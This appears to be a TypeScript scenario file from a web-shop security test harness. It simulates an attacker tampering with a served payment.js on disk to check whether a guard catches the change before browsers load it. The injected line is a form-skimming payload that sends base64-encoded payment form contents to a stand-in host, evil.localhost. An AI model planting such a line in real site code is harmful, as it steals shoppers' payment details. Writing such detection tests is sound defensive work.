import { serverSide } from '../behaviour.ts';

export default serverSide({
  id: 'script-served',
  why: 'A script the shop serves is altered on disk: what the probe sees in the browser, the guard sees before anybody loads it.',
  covers: ['server: modified core file'],
  strike: ({ read, write }) =>
    write(
      'html/assets/payment.js',
      `${read('html/assets/payment.js')}\n;new Image().src='http://evil.localhost/i.gif?d='+btoa(document.forms[0].innerHTML);`,
    ),
});
